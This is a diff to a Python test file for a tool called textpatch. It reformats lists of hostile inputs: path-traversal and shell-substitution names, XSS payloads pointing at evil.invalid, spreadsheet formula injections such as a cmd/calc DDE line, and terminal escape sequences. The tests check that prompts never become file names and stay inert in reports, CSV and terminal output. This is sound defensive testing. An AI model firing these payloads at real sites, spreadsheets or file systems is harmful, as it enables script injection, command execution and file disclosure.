@@ -1,6 +1,7 @@
-"""Texts of strangers in a run: no file is named by them, and wherever they are shown they stay text."""
+"""Texts of strangers in a run name no file, and stay text wherever they are shown."""
 
 import csv
+import inspect
 import io
 import os
 import re
@@ -21,26 +22,94 @@ from textpatch.cli import opening
 from textpatch.disk import read_json
 from textpatch.errors import PatchError, StoreError
 from textpatch.exits import guarded
-from textpatch.report import result
+from textpatch.report.headline import answer
+from textpatch.report.terminal import table
 from textpatch.runs import folder as store
-from textpatch.runs.folder import Run, flatten
+from textpatch.runs.folder import Run
+from textpatch.runs.requests import flatten
 
 # --- names
 
 NAMES = [
-    "", ".", "..", "../x", "../" * 99 + "etc/passwd", "/etc/passwd", "~/x", "~root", "a/b", "a\\b", "C:\\x", "C:x", "\\\\host\\share",
-    "a\0b", "\0", "a\nb", "\r\n", "\t", " ", "a ", "a.", ".hidden", "-rf", "--out", "*", "?", "$HOME", "$(touch x)", "`touch x`", "a;b", "a|b",
-    "CON", "con", "NUL.txt", "COM1", "LPT9.png", "aux", "x" * 255, "x" * 256, "x" * 10_000, "\u202etxt.exe", "\u2066a\u2069", "e\u0301", "é",
-    "a" + "\u0301" * 300, "Straße", "STRASSE", "straße", "ﬁ", "fi", "FI", "İ", "i̇", "ı", "K", "K", "k", "\ud800", "\U0010ffff", "\ufeffa",
-    "a\u200bb", "a\u2028b", "😀", "%2e%2e%2f", "..%c0%af", "manifest.json", "records", "images", "results.json", "0.jsonl", "\x1b[2J",
-]  # fmt: skip
+    "",
+    ".",
+    "..",
+    "../x",
+    "../" * 99 + "etc/passwd",
+    "/etc/passwd",
+    "~/x",
+    "~root",
+    "a/b",
+    "a\\b",
+    "C:\\x",
+    "C:x",
+    "\\\\host\\share",
+    "a\0b",
+    "\0",
+    "a\nb",
+    "\r\n",
+    "\t",
+    " ",
+    "a ",
+    "a.",
+    ".hidden",
+    "-rf",
+    "--out",
+    "*",
+    "?",
+    "$HOME",
+    "$(touch x)",
+    "`touch x`",
+    "a;b",
+    "a|b",
+    "CON",
+    "con",
+    "NUL.txt",
+    "COM1",
+    "LPT9.png",
+    "aux",
+    "x" * 255,
+    "x" * 256,
+    "x" * 10_000,
+    "\u202etxt.exe",
+    "\u2066a\u2069",
+    "e\u0301",
+    "é",
+    "a" + "\u0301" * 300,
+    "Straße",
+    "STRASSE",
+    "straße",
+    "ﬁ",
+    "fi",
+    "FI",
+    "İ",
+    "i̇",
+    "ı",
+    "K",
+    "K",
+    "k",
+    "\ud800",
+    "\U0010ffff",
+    "\ufeffa",
+    "a\u200bb",
+    "a\u2028b",
+    "😀",
+    "%2e%2e%2f",
+    "..%c0%af",
+    "manifest.json",
+    "records",
+    "images",
+    "results.json",
+    "0.jsonl",
+    "\x1b[2J",
+]
 ALLOWED = re.compile(
-    r"generate-small-[0-9a-f]{8}(/(manifest\.json|results\.json|records|records/0\.jsonl|images|images/[0-9a-f]{16}\.png))?"
+    r"generate-small-[0-9a-f]{8}"
+    r"(/(manifest\.json|results\.json|records|records/0\.jsonl|images|images/[0-9a-f]{16}\.png))?"
 )
 PIPELINE = SimpleNamespace(name="small")
-OPTIONS = cli.command_parser().parse_args(
-    ["generate", __file__, "a prompt"]
-)  # of a model's files only the digest is asked for
+# only the digest of the model's file is asked for
+OPTIONS = cli.command_parser().parse_args(["generate", __file__, "a prompt"])
 
 
 @pytest.fixture(scope="module")
@@ -50,7 +119,7 @@ def root(tmp_path_factory):
 
 
 def kept(root: Path, text: str) -> Path:
-    """The run folder of a prompt, as the command line chooses it, with everything in it that comes from the prompt."""
+    """The run folder of a prompt as the command line chooses it, with all files that come from the prompt."""
     with pytest.MonkeyPatch.context() as patch:
         root.mkdir(exist_ok=True)
         patch.chdir(root)
@@ -84,48 +153,45 @@ SEEN: dict[str, str] = {}
 @settings(max_examples=500)
 @given(st.text(st.characters()))
 def test_no_name_is_made_of_a_prompt(root, text):
-    """500 texts and more as prompts: each has a folder of its own, also where a disk does not tell capitals from
-    small letters; all names below are hashes or our own; and the text itself is in the files, unchanged."""
+    """500 texts and more as prompts leave no trace in any name.
+
+    Each has a folder of its own, also where a disk does not tell capitals from small letters.  All names
+    below are hashes or our own.  The text itself is in the files, unchanged.
+    """
     folder = kept(root, text)
-    assert SEEN.setdefault(folder.name.casefold(), text) == text and folder.parent == root / "runs"
+    assert SEEN.setdefault(folder.name.casefold(), text) == text
+    assert folder.parent == root / "runs"
     found = [path.relative_to(root / "runs").as_posix() for path in [folder, *folder.rglob("*")]]
-    assert len(found) == 7 and [name for name in found if not ALLOWED.fullmatch(name)] == []
-    assert [path.name for path in root.parent.iterdir()] == ["here"] and [
-        path.name for path in root.iterdir()
-    ] == ["runs"]
-    assert (
-        Run.load(folder).manifest["request"]["prompts"]
-        == [text]
-        == [read_json(folder / "results.json")["prompt"]]
-    )
+    assert len(found) == 7
+    assert [name for name in found if not ALLOWED.fullmatch(name)] == []
+    assert [path.name for path in root.parent.iterdir()] == ["here"]
+    assert [path.name for path in root.iterdir()] == ["runs"]
+    assert Run.load(folder).manifest["request"]["prompts"] == [text]
+    assert read_json(folder / "results.json")["prompt"] == text
 
 
 @every(NAMES)
 @settings(max_examples=100)
 @given(st.text(st.characters()) | st.text(st.sampled_from("./\\-_aA:~\0\n ")))
 def test_a_text_for_a_name_is_refused_or_inside(tmp_path_factory, text):
-    """A file named by a text, or a worker: StoreError, or a plain file inside the folder, none of those with a meaning."""
+    """A file or a worker named by a text is a StoreError, or has a plain name inside the folder.
+
+    It takes no name that means something in a run folder.
+    """
     folder = tmp_path_factory.mktemp("n") / "run"
     run = Run.open(folder, {"request": 1})
     before = sorted(folder.parent.rglob("*"))
     try:
         path = run.write_bytes(text, b"x")
     except StoreError as error:
-        assert (
-            sorted(folder.parent.rglob("*")) == before
-            and "\n" not in str(error)
-            and len(str(error)) < 4 * len(text) + 300
-        )
+        assert sorted(folder.parent.rglob("*")) == before
+        assert "\n" not in str(error)
+        assert len(str(error)) < 4 * len(text) + 300
     else:
-        assert (
-            re.fullmatch(r"\w[\w.-]*(/\w[\w.-]*)*", text, re.ASCII)
-            and path.resolve() == (folder / text).resolve()
-        )
-        assert path.read_bytes() == b"x" and text.split("/")[0].lower() not in (
-            "manifest.json",
-            "records",
-            "images",
-        )
+        assert re.fullmatch(r"\w[\w.-]*(/\w[\w.-]*)*", text, re.ASCII)
+        assert path.resolve() == (folder / text).resolve()
+        assert path.read_bytes() == b"x"
+        assert text.split("/")[0].lower() not in ("manifest.json", "records", "images")
     try:
         Run(folder, {}, worker=text)
     except StoreError:
@@ -135,12 +201,10 @@ def test_a_text_for_a_name_is_refused_or_inside(tmp_path_factory, text):
 
 def test_planted_a_folder_named_by_its_prompt_is_noticed(root, monkeypatch):
     """Fault: the folder's name holds the prompt, or no more than its letters without their case."""
-    for name in (
-        "{request['prompts'][0]}",
-        "{hashlib.sha256(request['prompts'][0].casefold().encode()).hexdigest()[:8]}",
-    ):
+    without_case = "hashlib.sha256(request['prompts'][0].casefold().encode()).hexdigest()[:8]"
+    for name in ("{request['prompts'][0]}", f"{{{without_case}}}"):
         with monkeypatch.context() as faulty:
-            plant(faulty, opening, "open_run", "{digest}", name)
+            plant(faulty, opening, "folder_of", "{digest}", name)
             with pytest.raises((AssertionError, StoreError)):
                 for text in ("K", "k", "a b"):
                     test_no_name_is_made_of_a_prompt.hypothesis.inner_test(root, text)
@@ -149,18 +213,71 @@ def test_planted_a_folder_named_by_its_prompt_is_noticed(root, monkeypatch):
 # --- payloads
 
 PAYLOADS = [
-    "<script>alert(1)</script>", "</script><script>alert(1)</script>", "<ScRiPt src=//evil.invalid/x.js>", "</style><script>alert(1)</script>",
-    "</title><script>alert(1)</script>", "</td></tr></table><h1>x</h1>", "</code></pre></details>", "<img src=x onerror=alert(1)>",
-    "<img src=http://evil.invalid/x.png>", "<svg onload=alert(1)>", "<svg><use href=//evil.invalid/x#a></svg>", "<iframe src=//evil.invalid>",
-    "<object data=//evil.invalid>", "<embed src=//evil.invalid>", "<base href=//evil.invalid>", "<link rel=stylesheet href=//evil.invalid>",
-    "<meta http-equiv=refresh content=0;url=//evil.invalid>", "<form action=//evil.invalid><input name=x>", "<style>*{display:none}</style>",
-    "<!-- ", "--><script>alert(1)</script>", "<![CDATA[", "<?xml?>", '" onmouseover="alert(1)', "' onmouseover='alert(1)", '"><b>x</b>', "'><b>x</b>",
-    "` onerror=alert(1) `", "javascript:alert(1)", "&lt;script&gt;", "&#60;script&#62;", "&amp;amp;", "{title}{body}{0}", "%s%n%(x)s", "${x}{{x}}",
-    "=cmd|'/C calc'!A0", "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", '=HYPERLINK("http://evil.invalid")', '"=1+1', ",=1+1", 'x",=1+1,"',
-    "x\n=1+1", ";=1+1",
-    "\x1b[2J\x1b[H", "\x1b]0;title\x07", "\x1b]8;;http://evil.invalid\x1b\\x", "\x9b31m", "a\rb", "a\nb", "a\u2028b\u2029c", "a\x85b",
-    "a\0b", "\x08\x7f", "\u202eevil\u202c", "\u2066a\u2069", "\ufeffa\u200bb", "\ud800", "\N{COMBINING LONG STROKE OVERLAY}" * 99, "$\\frac{$\\input{/etc/passwd}",
-]  # fmt: skip
+    "<script>alert(1)</script>",
+    "</script><script>alert(1)</script>",
+    "<ScRiPt src=//evil.invalid/x.js>",
+    "</style><script>alert(1)</script>",
+    "</title><script>alert(1)</script>",
+    "</td></tr></table><h1>x</h1>",
+    "</code></pre></details>",
+    "<img src=x onerror=alert(1)>",
+    "<img src=http://evil.invalid/x.png>",
+    "<svg onload=alert(1)>",
+    "<svg><use href=//evil.invalid/x#a></svg>",
+    "<iframe src=//evil.invalid>",
+    "<object data=//evil.invalid>",
+    "<embed src=//evil.invalid>",
+    "<base href=//evil.invalid>",
+    "<link rel=stylesheet href=//evil.invalid>",
+    "<meta http-equiv=refresh content=0;url=//evil.invalid>",
+    "<form action=//evil.invalid><input name=x>",
+    "<style>*{display:none}</style>",
+    "<!-- ",
+    "--><script>alert(1)</script>",
+    "<![CDATA[",
+    "<?xml?>",
+    '" onmouseover="alert(1)',
+    "' onmouseover='alert(1)",
+    '"><b>x</b>',
+    "'><b>x</b>",
+    "` onerror=alert(1) `",
+    "javascript:alert(1)",
+    "&lt;script&gt;",
+    "&#60;script&#62;",
+    "&amp;amp;",
+    "{title}{body}{0}",
+    "%s%n%(x)s",
+    "${x}{{x}}",
+    "=cmd|'/C calc'!A0",
+    "=1+1",
+    "+1+1",
+    "-1+1",
+    "@SUM(A1)",
+    "\t=1+1",
+    "\r=1+1",
+    '=HYPERLINK("http://evil.invalid")',
+    '"=1+1',
+    ",=1+1",
+    'x",=1+1,"',
+    "x\n=1+1",
+    ";=1+1",
+    "\x1b[2J\x1b[H",
+    "\x1b]0;title\x07",
+    "\x1b]8;;http://evil.invalid\x1b\\x",
+    "\x9b31m",
+    "a\rb",
+    "a\nb",
+    "a\u2028b\u2029c",
+    "a\x85b",
+    "a\0b",
+    "\x08\x7f",
+    "\u202eevil\u202c",
+    "\u2066a\u2069",
+    "\ufeffa\u200bb",
+    "\ud800",
+    "\N{COMBINING LONG STROKE OVERLAY}" * 99,
+    "$\\frac{$\\input{/etc/passwd}",
+]
 HARMLESS = "a sign"
 
 
@@ -182,21 +299,22 @@ def page_of(text: str) -> str:
 
 @pytest.mark.parametrize("text", PAYLOADS)
 def test_a_payload_stays_text_in_the_report(text):
-    """The page has the tags and attributes of a harmless one, its policy, no address; the text is there to be read."""
+    """The page has the tags, attributes and policy of a harmless one, and the text is there to be read."""
     page = page_of(text)
-    names = [
-        [sorted(node.attributes) for node in Page(made).root.all()]
-        for made in (page, page_of(HARMLESS))
-    ]
-    assert tags_of(page) == tags_of(page_of(HARMLESS)) and names[0] == names[1] and quiet(page)
-    assert (
-        page.count(POLICY) == 1
-        and page.index(POLICY) < page.index("<title>")
-        and parsed(page, None)["outside"] == []
-    )
-    assert (
-        plainly(text) in Page(page).root.text and page.encode()
-    )  # half a character would not go into a file
+    harmless = page_of(HARMLESS)
+    assert tags_of(page) == tags_of(harmless)
+    assert attributes_of(page) == attributes_of(harmless)
+    assert quiet(page)
+    assert page.count(POLICY) == 1
+    assert page.index(POLICY) < page.index("<title>")
+    assert parsed(page, None)["outside"] == []
+    assert plainly(text) in Page(page).root.text
+    assert page.encode()  # half a character would not go into a file
+
+
+def attributes_of(page: str) -> list[list[str]]:
+    """Names of the attributes of every element."""
+    return [sorted(node.attributes) for node in Page(page).root.all()]
 
 
 @pytest.mark.parametrize("text", PAYLOADS)
@@ -211,9 +329,14 @@ def test_a_payload_stays_text_in_files(text, tmp_path):
 
 
 def inert(text: str) -> str:
-    """The cell of a text: behind an apostrophe if it would be run; half characters as escapes, one kind of line end."""
+    """The cell of a text, behind an apostrophe if it would be run.
+
+    Half characters are escapes, and there is one kind of line end.
+    """
     text = text.encode("utf-8", "backslashreplace").decode().replace("\r", "\n")
-    return "'" + text if text[0] in "=+-@\t\n" else text
+    if text[0] in "=+-@\t\n":
+        return "'" + text
+    return text
 
 
 def cells_of(run: Run, rows: list[dict]) -> list[list[str]]:
@@ -228,7 +351,7 @@ def cells_of(run: Run, rows: list[dict]) -> list[list[str]]:
 
 @pytest.mark.parametrize("text", PAYLOADS)
 def test_a_payload_stays_text_in_a_table(text, tmp_path):
-    """Every cell and title of a CSV comes back as it was, but what a spreadsheet would run begins with an apostrophe."""
+    """Cells and titles of a CSV come back, those that a spreadsheet would run behind an apostrophe."""
     run = Run.open(tmp_path / "run", {"request": 1})
     row = {"site": text, text: f"{text} end", "f1": -0.5, **flatten({"at": {text: text}})}
     title = f"at.{text}"
@@ -241,42 +364,92 @@ def test_a_payload_stays_text_in_a_table(text, tmp_path):
 
 @pytest.mark.parametrize("text", PAYLOADS)
 def test_a_payload_stays_text_in_the_terminal(text, capfd):
-    """Table and answer have the lines they have for a harmless text, at most 80 wide, all of it printable; an error is one line."""
-    asked, harmless = a_result(text=text), a_result(text=HARMLESS)
-    for made in (result.table, result.answer):
+    """Table and answer have as many lines as for a harmless text, all printable.  An error is one line."""
+    asked = a_result(text=text)
+    harmless = a_result(text=HARMLESS)
+    for made in (table, answer):
         lines = made(asked).split("\n")
-        assert len(lines) == made(harmless).count("\n") + 1 and all(
-            line.isprintable() for line in lines
-        )
-    assert max(map(len, result.table(asked, 80).split("\n"))) <= 80
+        assert len(lines) == made(harmless).count("\n") + 1
+        assert all(line.isprintable() for line in lines)
+    assert max(map(len, table(asked, 80).split("\n"))) <= 80
 
     def work():
         raise PatchError(f"no model {text}; closest: {text}")
 
     assert guarded(work) == 2
     out, err = capfd.readouterr()
-    assert (
-        out == ""
-        and err.startswith("textpatch: no model ")
-        and err.endswith("\n")
-        and err[:-1].isprintable()
-    )
+    assert out == ""
+    assert err.startswith("textpatch: no model ")
+    assert err.endswith("\n")
+    assert err[:-1].isprintable()
 
 
 FAULTS = {
-    "HTML is not escaped": (html, "safe", "html.escape(plain(text))", "plain(text)", test_a_payload_stays_text_in_the_report, "<!-- "),
+    "HTML is not escaped": (
+        html,
+        "safe",
+        "html.escape(plain(text))",
+        "plain(text)",
+        test_a_payload_stays_text_in_the_report,
+        "<!-- ",
+    ),
     "quotes are not escaped": (
-        html, "safe", "html.escape(plain(text))", "html.escape(plain(text), quote=False)", test_a_payload_stays_text_in_the_report, '"><b>x</b>'),
+        html,
+        "safe",
+        "html.escape(plain(text))",
+        "html.escape(plain(text), quote=False)",
+        test_a_payload_stays_text_in_the_report,
+        '"><b>x</b>',
+    ),
     "a policy that allows pictures": (
-        html, "page", "style=STYLE, body=body)", 'style=STYLE, body=body).replace("img-src data:", "img-src *")',
-        test_a_payload_stays_text_in_the_report, "%s%n%(x)s"),
-    "letters beyond ASCII": (disk, "as_json", "indent=indent).encode(\"ascii\")", 'indent=indent, ensure_ascii=False).encode("utf-8", "replace")',
-                             test_a_payload_stays_text_in_files, "a\u2028b\u2029c"),
-    "formulas": (store, "_cell", "\"'\" + text", "text", test_a_payload_stays_text_in_a_table, "=1+1"),
-    "carriage returns": (store, "_cell", '.replace("\\r", "\\n")', "", test_a_payload_stays_text_in_a_table, "a\rb"),
-    "a formula of a function": (store, "_cell", "=+-@", "=+-", test_a_payload_stays_text_in_a_table, "@SUM(A1)"),
-    "escapes in a table": (text_, "plain", "if c.isprintable()", "if True", test_a_payload_stays_text_in_the_terminal, "\x1b[2J\x1b[H"),
-}  # fmt: skip
+        html,
+        "page",
+        "style=STYLE, body=body)",
+        'style=STYLE, body=body).replace("img-src data:", "img-src *")',
+        test_a_payload_stays_text_in_the_report,
+        "%s%n%(x)s",
+    ),
+    "letters beyond ASCII": (
+        disk,
+        "as_json",
+        'indent=indent).encode("ascii")',
+        'indent=indent, ensure_ascii=False).encode("utf-8", "replace")',
+        test_a_payload_stays_text_in_files,
+        "a\u2028b\u2029c",
+    ),
+    "formulas": (
+        store,
+        "_cell",
+        '"\'" + text',
+        "text",
+        test_a_payload_stays_text_in_a_table,
+        "=1+1",
+    ),
+    "carriage returns": (
+        store,
+        "_cell",
+        '.replace("\\r", "\\n")',
+        "",
+        test_a_payload_stays_text_in_a_table,
+        "a\rb",
+    ),
+    "a formula of a function": (
+        store,
+        "_cell",
+        "=+-@",
+        "=+-",
+        test_a_payload_stays_text_in_a_table,
+        "@SUM(A1)",
+    ),
+    "escapes in a table": (
+        text_,
+        "plain",
+        "if c.isprintable()",
+        "if True",
+        test_a_payload_stays_text_in_the_terminal,
+        "\x1b[2J\x1b[H",
+    ),
+}
 
 
 @pytest.mark.parametrize("fault", FAULTS)
@@ -284,13 +457,8 @@ def test_a_fault_is_noticed(fault, tmp_path, capfd, monkeypatch):
     """What is tested above does not hold with the fault in place."""
     owner, name, old, new, check, text = FAULTS[fault]
     plant(monkeypatch, owner, name, old, new)
-    given = {"tmp_path": tmp_path, "capfd": capfd}
+    fixtures = {"tmp_path": tmp_path, "capfd": capfd}
+    asked = inspect.signature(check).parameters
+    given = {name: value for name, value in fixtures.items() if name in asked}
     with pytest.raises(AssertionError):
-        check(
-            text,
-            **{
-                name: given[name]
-                for name in check.__code__.co_varnames[: check.__code__.co_argcount]
-                if name in given
-            },
-        )
+        check(text, **given)
